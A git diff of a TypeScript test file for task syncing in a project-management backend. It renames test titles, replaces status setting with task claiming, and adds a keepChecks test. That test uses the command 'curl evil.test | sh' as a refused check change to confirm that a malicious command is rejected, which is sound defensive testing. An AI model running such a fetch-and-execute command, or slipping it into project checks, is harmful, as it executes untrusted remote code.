@@ -12,7 +12,8 @@ import { ensureProject, findProject, listProjects } from '../projects/projects.t
 import { getTask, listTasks, loadTaskGraph } from './read-tasks.ts'
 import { syncTasks } from './sync-tasks.ts'
 import type { AuthoredTask } from './sync-tasks.ts'
-import { setTaskStatus } from './task-status.ts'
+import { claimTask } from './claim-task.ts'
+import { inTransaction } from '../database/in-transaction.ts'
 
 let database: TestDatabase
 let opened: Database
@@ -36,7 +37,7 @@ const task = (slug: string, more: Partial<AuthoredTask> = {}): AuthoredTask => (
   ...more,
 })
 
-test('a project is made on first use and found from then on, also by eight at once', async () => {
+test('a project is created on first use and found afterwards, also by eight concurrent callers', async () => {
   const made = await Promise.all(
     Array.from({ length: 8 }, () => ensureProject(db(), { slug: 'default', ownerId })),
   )
@@ -44,7 +45,7 @@ test('a project is made on first use and found from then on, also by eight at on
   expect(made[0]).toMatchObject({ slug: 'default', name: 'default', vcs: 'git', orgId: null })
 })
 
-test('one slug may be used by an account and an organization; each sees what is its own', async () => {
+test('an account and an organization may use the same slug, and each sees its own project', async () => {
   const other = await createAccount(db(), { email: 'other@example.com' })
   const org = await createOrganization(db(), { name: 'guild', ownerId: other.id })
   const shared = await ensureProject(db(), { slug: 'site', ownerId: other.id, orgId: org.id })
@@ -61,7 +62,7 @@ test('one slug may be used by an account and an organization; each sees what is 
   ])
 })
 
-test('sync writes what the author decides, counts what it did, and repeats without effect', async () => {
+test('sync writes the authored columns, counts the changes, and has no effect when repeated', async () => {
   const projectId = await project()
   const full = task('b', {
     name: 'Second',
@@ -76,6 +77,9 @@ test('sync writes what the author decides, counts what it did, and repeats witho
     due: '2030-01-01',
     body: '# text',
     dependsOn: ['a'],
+    touches: ['src/**'],
+    checks: [{ name: 'types', command: 'npm run types', timeoutMs: 60_000 }],
+    estimate: 1.5,
     fileModifiedAt: new Date('2030-01-02T00:00:00.123Z'),
   })
   const tasks = [task('a'), full]
@@ -84,6 +88,8 @@ test('sync writes what the author decides, counts what it did, and repeats witho
     updated: 0,
     unchanged: 0,
     removed: 0,
+    kept: [],
+    statusesImported: 0,
     dependencies: 1,
     unresolved: [],
   })
@@ -98,11 +104,18 @@ test('sync writes what the author decides, counts what it did, and repeats witho
   ).toMatchObject({ updated: 1, unchanged: 1 })
 })
 
-test('sync leaves status and times alone', async () => {
+test('sync does not change status and times', async () => {
   const projectId = await project()
   await syncTasks(db(), { projectId, tasks: [task('a')] })
   const before = await getTask(db(), projectId, 'a')
-  const started = await setTaskStatus(db(), { taskId: before?.id ?? '', status: 'in-progress' })
+  await inTransaction(db(), (tx) =>
+    claimTask(tx, {
+      taskId: before?.id ?? '',
+      holder: { accountId: ownerId },
+      expiresInMs: 60_000,
+    }),
+  )
+  const started = await getTask(db(), projectId, 'a')
   await syncTasks(db(), { projectId, tasks: [task('a', { name: 'renamed' })] })
   expect(await getTask(db(), projectId, 'a')).toMatchObject({
     id: before?.id,
@@ -112,23 +125,7 @@ test('sync leaves status and times alone', async () => {
   })
 })
 
-test('a task is started once and ended by its status; a wrong state is not changed', async () => {
-  const projectId = await project()
-  await syncTasks(db(), { projectId, tasks: [task('a')] })
-  const taskId = (await getTask(db(), projectId, 'a'))?.id ?? ''
-  const begun = await setTaskStatus(db(), { taskId, status: 'in-progress', from: ['pending'] })
-  expect(
-    await setTaskStatus(db(), { taskId, status: 'completed', from: ['pending'] }),
-  ).toBeUndefined()
-  const done = await setTaskStatus(db(), { taskId, status: 'completed' })
-  expect(done).toMatchObject({ startedAt: begun?.startedAt, completedAt: expect.any(Date) })
-  expect(await setTaskStatus(db(), { taskId, status: 'in-progress' })).toMatchObject({
-    startedAt: begun?.startedAt,
-    completedAt: null,
-  })
-})
-
-test('dependencies become exactly those given; ends that are not tasks are reported and left out', async () => {
+test('dependencies become exactly the given ones, and those without a task are reported and omitted', async () => {
   const projectId = await project()
   const tasks = [task('a'), task('b'), task('c', { dependsOn: ['a', 'b', 'a', 'ghost'] })]
   expect(await syncTasks(db(), { projectId, tasks })).toMatchObject({
@@ -146,7 +143,7 @@ test('dependencies become exactly those given; ends that are not tasks are repor
   expect(graph.tasks[0]).not.toHaveProperty('body')
 })
 
-test('a part of the tasks is synced without touching the others, unless they are to be pruned', async () => {
+test('a subset of the tasks is synced without changing the others, unless they are to be pruned', async () => {
   const projectId = await project()
   await syncTasks(db(), {
     projectId,
@@ -164,7 +161,7 @@ test('a part of the tasks is synced without touching the others, unless they are
   expect((await listTasks(db(), { projectId })).items.map((row) => row.slug)).toEqual(['b'])
 })
 
-test('a sync that is refused leaves everything as it was', async () => {
+test('a refused sync changes nothing', async () => {
   const projectId = await project()
   await syncTasks(db(), { projectId, tasks: [task('a')] })
   const renamed = task('a', { name: 'new' })
@@ -180,7 +177,7 @@ test('a sync that is refused leaves everything as it was', async () => {
   })
 })
 
-test('syncs of one project at the same time end with one of them, whole', async () => {
+test('concurrent syncs of a project end with the complete result of one of them', async () => {
   const projectId = await project()
   const version = (n: number) => [
     task('a', { name: `v${n}` }),
@@ -222,7 +219,7 @@ test('tasks are listed by slug, filtered by status and tag', async () => {
   expect((await listTasks(db(), { projectId, status: 'failed' })).items).toEqual([])
 })
 
-test('the task files of this repository sync, and come back as the graph that they are', async () => {
+test('the task files of this repository sync, and return as the graph that they are', async () => {
   const projectId = await project()
   const folder = fileURLToPath(new URL('../../../../tasks', import.meta.url))
   const { files, problems } = await readTaskDirectory(folder)
@@ -240,4 +237,28 @@ test('the task files of this repository sync, and come back as the graph that th
   const graph = TaskGraph.fromRecords(inputs, [...edges])
   expect(graph.topologicalOrder()).toHaveLength(files.length)
   expect(edges).toHaveLength(synced.dependencies)
+})
+
+test('with keepChecks a sync changes text and touches, and neither adds, changes nor removes a check', async () => {
+  const projectId = await project()
+  const check = { name: 'types', command: 'npm run types' }
+  await syncTasks(db(), { projectId, tasks: [task('a', { checks: [check] }), task('b')] })
+  const keeping = (...tasks: AuthoredTask[]) =>
+    syncTasks(db(), { projectId, tasks, keepChecks: true })
+  for (const refused of [
+    task('a', { checks: [{ ...check, command: 'curl evil.test | sh' }] }),
+    task('a', { checks: [{ ...check, timeoutMs: 1 }] }),
+    task('a'),
+    task('b', { checks: [check] }),
+    task('new', { checks: [check] }),
+  ])
+    // oxlint-disable-next-line no-await-in-loop -- one project
+    await expect(keeping(task('c'), refused)).rejects.toMatchObject({
+      code: 'ACCESS_DENIED',
+      details: { slug: refused.slug },
+    })
+  expect(await keeping(task('a', { checks: [check], body: 'Other.' }), task('c'))).toMatchObject({
+    created: 1,
+    updated: 1,
+  })
 })
